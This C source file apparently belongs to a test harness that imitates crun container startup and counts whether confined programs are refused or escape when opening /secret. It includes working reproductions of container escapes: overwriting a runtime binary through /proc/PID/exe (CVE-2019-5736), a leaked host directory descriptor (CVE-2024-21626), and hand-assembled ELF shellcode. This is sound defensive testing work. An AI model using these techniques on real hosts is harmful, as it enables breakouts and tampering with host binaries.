// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * box violate FILE                       - write a program whose first instructions open /secret; it ends with
 *                                          42 when it could, else with 0
 * box run [-d MS] [-w WORKERS] NAME COUNT ROOT PROGRAM...
 *                                        - COUNT containers NAME-0, NAME-1 ..., one after the other in each of
 *                                          the workers, as crun would start them: a cgroup, a state in /run/crun
 *                                          (-d: so late; -1: none), clone3() into it and new namespaces,
 *                                          pivot_root() to ROOT, execve()
 *                                          (-n: execute nothing, but give up CAP_SYS_ADMIN and open /secret for
 *                                          20 s, until it is refused; -u: and have it again in a user namespace;
 *                                          -a: keep it, and try for 120 s;
 *                                          -b: whose exec is refused counts as killed: neither has begun;
 *                                          -f: the same for 40 s, in the host's PID namespace, as another process each
 *                                          half second, whose parent ends;
 *                                          -s: in a scope as crun has it for systemd; ROOT / is one that is
 *                                          the host's; -l: with the host's root directory as working directory, by a
 *                                          descriptor that leaked: CVE-2024-21626)
 * box join NAME SECONDS                  - be in a container as a runtime is that has yet to execute what it was
 *                                          asked to: in its cgroup and namespaces, as a program of the host's
 * box overwrite NAME                     - in a container: write into the program of whoever joins it and is
 *                                          called so, when it has ended (CVE-2019-5736). Prints what came of it
 *
 * Prints "refused N escaped N killed N other N", counted from how the programs in the containers ended.
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define ESCAPED 42
#define BARRED 43 /* its exec was refused */
#define PARENT "/sys/fs/cgroup/boxes"

struct counts {
	unsigned int refused, escaped, killed, other;
};

static void die(const char *what)
{
	fprintf(stderr, "box: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* ---- the program ----------------------------------------------------------------------------- */

static int violate(const char *path)
{
	static const unsigned char code[] = "\xb8\x02\x00\x00\x00"	   /* mov eax, SYS_open */
					    "\x48\x8d\x3d\x18\x00\x00\x00" /* lea rdi, [path] */
					    "\x31\xf6"			   /* xor esi, esi */
					    "\x0f\x05"			   /* syscall */
					    "\x85\xc0"			   /* test eax, eax */
					    "\x78\x07"			   /* js refused */
					    "\xbf\x2a\x00\x00\x00"	   /* mov edi, ESCAPED */
					    "\xeb\x02"			   /* jmp end */
					    "\x31\xff"		   /* refused: xor edi, edi */
					    "\xb8\x3c\x00\x00\x00" /* end: mov eax, SYS_exit */
					    "\x0f\x05"		   /* syscall */
					    "/secret";		   /* path */
	const size_t size = sizeof(Elf64_Ehdr) + sizeof(Elf64_Phdr) + sizeof(code);
	const Elf64_Ehdr head = { .e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS64,
					       ELFDATA2LSB, EV_CURRENT },
				  .e_type = ET_EXEC,
				  .e_machine = EM_X86_64,
				  .e_version = EV_CURRENT,
				  .e_entry = 0x400000 + sizeof(Elf64_Ehdr) + sizeof(Elf64_Phdr),
				  .e_phoff = sizeof(head),
				  .e_ehsize = sizeof(head),
				  .e_phentsize = sizeof(Elf64_Phdr),
				  .e_phnum = 1 };
	const Elf64_Phdr segment = { .p_type = PT_LOAD,
				     .p_flags = PF_R | PF_X,
				     .p_vaddr = 0x400000,
				     .p_filesz = size,
				     .p_memsz = size,
				     .p_align = 0x1000 };
	FILE *file = fopen(path, "w");

	if (!file || fwrite(&head, sizeof(head), 1, file) != 1 ||
	    fwrite(&segment, sizeof(segment), 1, file) != 1 ||
	    fwrite(code, sizeof(code), 1, file) != 1 || fchmod(fileno(file), 0755) || fclose(file))
		die(path);
	return 0;
}

/* ---- one container --------------------------------------------------------------------------- */

static bool leaks, silent, scopes, forks, keeps, regains, begins;

static void cgroup_name(const char *name, char path[static 300])
{
	snprintf(path, 300, scopes ? "/crun-%s.scope" : "/boxes/%s", name);
}

static void write_state(const char *name, const char *root)
{
	char path[300], part[320], cgroup[300];
	FILE *file;

	snprintf(path, sizeof(path), "/run/crun/%s", name);
	mkdir("/run/crun", 0700);
	mkdir(path, 0700);
	snprintf(part, sizeof(part), "%s/.part", path);
	file = fopen(part, "w");
	if (!file)
		die(part);
	cgroup_name(name, cgroup);
	fprintf(file, "{\"cgroup-path\":\"%s\",\"bundle\":\"%s\"}", cgroup, path);
	fclose(file);
	snprintf(part, sizeof(part), "%s/config.json", path);
	file = fopen(part, "w");
	if (!file)
		die(part);
	fprintf(file, "{\"root\":{\"path\":\"%s\"}}", root);
	fclose(file);
	snprintf(part, sizeof(part), "%s/.part", path);
	snprintf(path, sizeof(path), "/run/crun/%s/status", name);
	if (rename(part, path))
		die(path);
}

static void remove_state(const char *name)
{
	char path[300];

	snprintf(path, sizeof(path), "/run/crun/%s/status", name);
	unlink(path);
	snprintf(path, sizeof(path), "/run/crun/%s/config.json", name);
	unlink(path);
	snprintf(path, sizeof(path), "/run/crun/%s", name);
	rmdir(path);
}

static void enter_root(const char *root)
{
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		die("/");
	if (!strcmp(root, "/")) /* has it already */
		return;
	if (mount(root, root, NULL, MS_BIND | MS_REC, NULL) || chdir(root) ||
	    syscall(SYS_pivot_root, ".", ".") || umount2(".", MNT_DETACH) || chdir("/"))
		die(root);
}

/* As runtimes do before they execute anything, or run what they have loaded. */
static void drop_admin(void)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &header, data))
		die("capget");
	data[0].effective &= ~(1u << CAP_SYS_ADMIN);
	if (syscall(SYS_capset, &header, data))
		die("capset");
}

static int try_for_long(void)
{
	for (int i = 0; i < (keeps ? 2400 : 400); i++, usleep(50000)) {
		int fd = open("/secret", O_RDONLY);

		if (fd < 0)
			return 0;
		close(fd);
	}
	return ESCAPED;
}

/* Nobody in it is older than half a second, but for the one that waits. */
static int try_and_fork(void)
{
	char result = ESCAPED;
	int ends[2], pid;

	if (pipe(ends) || (pid = fork()) < 0)
		return 1;
	if (pid)
		return read(ends[0], &result, 1) == 1 ? result : 1;
	for (int i = 0; i < 80; i++) {
		int fd = open("/secret", O_RDONLY);

		if (fd < 0) {
			result = 0;
			break;
		}
		close(fd);
		usleep(500000);
		pid = fork();
		if (pid)
			_exit(pid < 0);
	}
	_exit(write(ends[1], &result, 1) != 1);
}

static int start(const char *cgroup, const char *root, char **program)
{
	struct clone_args args = {
		.flags = CLONE_INTO_CGROUP | CLONE_NEWNS | (forks ? 0 : CLONE_NEWPID),
		.exit_signal = SIGCHLD,
	};
	int fd, pid;

	if (mkdir(cgroup, 0755) && errno != EEXIST)
		die(cgroup);
	fd = open(cgroup, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		die(cgroup);
	args.cgroup = (__u64)fd;
	pid = (int)syscall(SYS_clone3, &args, sizeof(args));
	if (pid < 0)
		die("clone3");
	if (!pid) {
		int host = leaks ? open("/", O_RDONLY | O_DIRECTORY) : -1;

		enter_root(root);
		if (leaks && fchdir(host))
			die("leak");
		mount("proc", "/proc", "proc", 0, NULL); /* where there is such a folder */
		if ((silent || forks) && !keeps)
			drop_admin();
		if (regains && unshare(CLONE_NEWUSER))
			die("user namespace");
		if (silent)
			_exit(try_for_long());
		if (forks)
			_exit(try_and_fork());
		execv(program[0], program);
		if (errno == EACCES || errno == EPERM)
			_exit(begins ? BARRED : 0); /* refused at once */
		die(program[0]);
	}
	close(fd);
	return pid;
}

static void run_one(const char *name, int delay, const char *root, char **program,
		    struct counts *counts)
{
	char cgroup[320], path[300];
	int pid, status;

	strcpy(cgroup, "/sys/fs/cgroup");
	cgroup_name(name, path);
	strcat(cgroup, path);
	if (!delay)
		write_state(name, root);
	pid = start(cgroup, root, program);
	if (delay > 0) {
		usleep((useconds_t)delay * 1000);
		write_state(name, root);
	}
	if (waitpid(pid, &status, 0) != pid)
		die("waitpid");
	if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
		counts->killed++;
	else if (WIFEXITED(status) && WEXITSTATUS(status) == BARRED)
		counts->killed++;
	else if (WIFEXITED(status) && WEXITSTATUS(status) == ESCAPED)
		counts->escaped++;
	else if (WIFEXITED(status) && !WEXITSTATUS(status))
		counts->refused++;
	else {
		counts->other++;
		fprintf(stderr, "box: %s ended with 0x%x\n", name, (unsigned int)status);
	}
	remove_state(name);
	while (rmdir(cgroup) && errno == EBUSY)
		usleep(1000);
}

/* ---- attacks --------------------------------------------------------------------------------- */

static void enter(int pid, const char *namespace)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, namespace);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || setns(fd, 0))
		die(path);
	close(fd);
}

static int join(const char *name, const char *seconds)
{
	char path[300];
	int pid = 0, child;
	FILE *file;

	snprintf(path, sizeof(path), PARENT "/%s/cgroup.procs", name);
	file = fopen(path, "r");
	if (!file || fscanf(file, "%d", &pid) != 1)
		die(path);
	fclose(file);
	file = fopen(path, "w");
	if (!file || fprintf(file, "0") < 0 || fclose(file))
		die(path);
	enter(pid, "pid");
	enter(pid, "mnt");
	child = fork();
	if (child < 0)
		die("fork");
	if (!child) {
		sleep((unsigned int)atoi(seconds));
		_exit(0);
	}
	return waitpid(child, NULL, 0) == child ? 0 : 1;
}

/* Is it called so? */
static int is_called(int pid, const char *name)
{
	char path[64], comm[64] = "";
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	file = fopen(path, "r");
	if (!file)
		return 0;
	if (fscanf(file, "%63s", comm) != 1)
		comm[0] = '\0';
	fclose(file);
	return !strcmp(comm, name);
}

static int overwrite(const char *name)
{
	char path[64];
	int fd = -1, reader = -1;

	for (int tries = 0; reader < 0 && tries < 100; tries++, usleep(50000))
		for (int pid = 2; pid < 400 && reader < 0; pid++) {
			if (pid == getpid() || !is_called(pid, name))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			reader = open(path, O_PATH);
			if (reader < 0) {
				printf("overwrite: %s\n", strerror(errno));
				return 1;
			}
		}
	if (reader < 0) {
		puts("overwrite: nobody came");
		return 2;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", reader);
	for (int tries = 0; fd < 0 && tries < 200; tries++, usleep(50000)) {
		fd = open(path, O_WRONLY);
		if (fd < 0 && errno != ETXTBSY)
			break;
	}
	if (fd < 0 || write(fd, "owned", 5) != 5) {
		printf("overwrite: %s\n", strerror(errno));
		return 1;
	}
	puts("overwritten");
	return 0;
}

/* ---- many ------------------------------------------------------------------------------------ */

static int run(int argc, char **argv)
{
	struct counts *counts = mmap(NULL, 64 * sizeof(*counts), PROT_READ | PROT_WRITE,
				     MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct counts sum = { 0 };
	int option, delay = 0, workers = 1;

	while ((option = getopt(argc, argv, "+d:w:lnsfaub")) != -1)
		if (option == 'd')
			delay = atoi(optarg);
		else if (option == 'w')
			workers = atoi(optarg);
		else if (option == 'l')
			leaks = true;
		else if (option == 'n')
			silent = true;
		else if (option == 'f')
			forks = true;
		else if (option == 'a')
			silent = keeps = true;
		else if (option == 'b')
			begins = true;
		else if (option == 'u')
			silent = regains = true;
		else if (option == 's')
			scopes = true;
	argv += optind;
	argc -= optind;
	if (argc < 4 || workers < 1 || workers > 64 || counts == MAP_FAILED) {
		fprintf(stderr, "usage: box run [-d MS] [-w WORKERS] NAME COUNT ROOT PROGRAM...\n");
		return 1;
	}
	mkdir(PARENT, 0755);
	for (int w = 0; w < workers; w++) {
		if (fork())
			continue;
		for (int i = w; i < atoi(argv[1]); i += workers) {
			char name[200];

			snprintf(name, sizeof(name), "%s-%d", argv[0], i);
			run_one(name, delay, argv[2], argv + 3, &counts[w]);
		}
		_exit(0);
	}
	while (wait(NULL) > 0)
		;
	for (int w = 0; w < workers; w++) {
		sum.refused += counts[w].refused;
		sum.escaped += counts[w].escaped;
		sum.killed += counts[w].killed;
		sum.other += counts[w].other;
	}
	printf("refused %u escaped %u killed %u other %u\n", sum.refused, sum.escaped, sum.killed,
	       sum.other);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "violate"))
		return violate(argv[2]);
	if (argc > 2 && !strcmp(argv[1], "run"))
		return run(argc - 1, argv + 1);
	if (argc == 4 && !strcmp(argv[1], "join"))
		return join(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "overwrite"))
		return overwrite(argv[2]);
	fprintf(stderr, "usage: box violate FILE | box run ...\n");
	return 1;
}
